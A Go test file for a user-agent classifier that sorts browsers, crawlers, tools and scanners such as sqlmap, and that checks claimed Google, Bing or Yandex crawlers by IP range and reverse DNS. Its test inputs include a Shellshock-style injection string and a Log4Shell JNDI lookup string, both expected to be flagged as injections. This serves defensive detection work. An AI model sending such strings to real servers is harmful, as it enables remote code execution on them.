package agents

import (
	"context"
	"errors"
	"strings"
	"testing"
)

func TestOf(t *testing.T) {
	for _, c := range []struct {
		ua   string
		want Agent
	}{
		{"", Agent{Kind: Unknown, Name: "(none)"}},
		{"-", Agent{Kind: Unknown, Name: "(none)"}},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", Agent{Kind: Browser, Name: "Chrome"}},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0", Agent{Kind: Browser, Name: "Edge"}},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", Agent{Kind: Browser, Name: "Safari"}},
		{"Mozilla/5.0 (Linux; Android 6.0; CUBOT MAX) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/72.0.3626.121 Mobile Safari/537.36", Agent{Kind: Browser, Name: "Chrome"}},
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Agent{Kind: Bot, Name: "Googlebot", Engine: "google"}},
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", Agent{Kind: Bot, Name: "bingbot", Engine: "bing"}},
		{"Mozilla/5.0 (compatible; Newbot/1.0; +https://newbot.example)", Agent{Kind: Bot, Name: "Newbot"}},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36 PTST/211202.211915", Agent{Kind: Bot, Name: "Mozilla"}},
		{"curl/8.5.0", Agent{Kind: Bot, Name: "curl"}},
		{"kestrel/2.4 (iPhone; iOS 17.5; Scale/3.00)", Agent{Kind: App, Name: "kestrel"}},
		{"okhttp/4.12.0", Agent{Kind: Tool, Name: "okhttp"}},
		{"sqlmap/1.7.2#stable (https://sqlmap.org)", Agent{Kind: Tool, Name: "sqlmap", Scanner: true}},
		{"ELB-HealthChecker/2.0", Agent{Kind: Bot, Name: "ELB-HealthChecker"}},
		{`() { :; }; echo "x"`, Agent{Kind: Unknown, Name: "(an injection)"}},
		{"${jndi:ldap://192.0.2.1/a}", Agent{Kind: Unknown, Name: "(an injection)"}},
	} {
		if got := Of([]byte(c.ua)); got != c.want {
			t.Errorf("%s\n got %+v\nwant %+v", c.ua, got, c.want)
		}
	}
}

func FuzzOf(f *testing.F) {
	f.Add("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
	f.Add("Mozilla/5.0 (X11; a@b.c @ compatible; ) x@")
	f.Fuzz(func(t *testing.T, ua string) {
		a := Of([]byte(ua))
		if a.Name == "" || a.Kind == "" || len(a.Name) > 60 {
			t.Fatalf("%q is %+v", ua, a)
		}
		if a.Engine != "" && Engines[a.Engine] == nil {
			t.Fatalf("%q claims the unknown engine %s", ua, a.Engine)
		}
	})
}

func TestEngines(t *testing.T) {
	for _, c := range []struct {
		engine, address string
		want            Verdict
	}{
		{"google", "66.249.66.1", Confirmed},
		{"google", "2001:4860:4801:10::1", Confirmed},
		{"google", "203.0.113.9", Contradicted},
		{"google", "10.0.0.4", Contradicted},
		{"google", "::ffff:66.249.66.1", Confirmed},
		{"bing", "157.55.39.7", Confirmed},
		{"bing", "198.51.100.4", Contradicted},
		{"apple", "17.58.1.1", Confirmed},
		{"yandex", "203.0.113.9", Contradicted}, // an address of documentation
		{"yandex", "5.255.253.1", Unverified},
		{"google", "12.34.178.90.32", Unverified},
	} {
		if got := Judge(c.engine, c.address); got != c.want {
			t.Errorf("%s from %s is %s, want %s", c.engine, c.address, got, c.want)
		}
	}
	for name, e := range Engines {
		if len(e.Names) == 0 && len(e.ranges) == 0 {
			t.Errorf("nothing tells who comes from %s", name)
		}
	}
}

// names is a DNS that knows a few addresses and names.
type names map[string][]string

func (n names) LookupAddr(_ context.Context, address string) ([]string, error) {
	return n.look(address)
}
func (n names) LookupHost(_ context.Context, host string) ([]string, error) { return n.look(host) }
func (n names) look(key string) ([]string, error) {
	if list, ok := n[key]; ok {
		return list, nil
	}
	return nil, errors.New("no such host")
}

func TestAsk(t *testing.T) {
	dns := names{
		"5.255.253.1": {"5-255-253-1.spider.yandex.com."}, "5-255-253-1.spider.yandex.com": {"5.255.253.1"},
		"5.255.253.2": {"liar.spider.yandex.com."}, "liar.spider.yandex.com": {"5.255.253.77"},
		"5.255.253.3": {"yandex.com.evil.example."}, "yandex.com.evil.example": {"5.255.253.3"},
		"8.8.4.4": {"crawl.googlebot.com."}, "crawl.googlebot.com": {"8.8.4.4"},
	}
	for _, c := range []struct {
		engine, address string
		want            Verdict
	}{
		{"yandex", "5.255.253.1", Confirmed},
		{"yandex", "5.255.253.2", Contradicted}, // the name does not lead back
		{"yandex", "5.255.253.3", Contradicted}, // another domain
		{"yandex", "5.255.253.9", Unverified},   // the DNS does not answer
		{"google", "8.8.4.4", Confirmed},        // newer than our ranges
		{"google", "66.249.66.1", Confirmed},
		{"google", "203.0.113.9", Contradicted},
	} {
		if got := Ask(t.Context(), dns, c.engine, c.address); got != c.want {
			t.Errorf("%s from %s is %s, want %s", c.engine, c.address, got, c.want)
		}
	}
}

func TestTables(t *testing.T) {
	for _, k := range knowns {
		if k.text != strings.ToLower(k.text) {
			t.Errorf("%q is never found: it is not in lower case", k.text)
		}
		if k.agent.Engine != "" && Engines[k.agent.Engine] == nil {
			t.Errorf("%s: no engine %s", k.text, k.agent.Engine)
		}
	}
	for _, w := range append(words, excuses...) {
		if w != strings.ToLower(w) {
			t.Errorf("%q is never found: it is not in lower case", w)
		}
	}
}

func BenchmarkOf(b *testing.B) {
	ua := []byte("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36")
	for b.Loop() {
		Of(ua)
	}
}
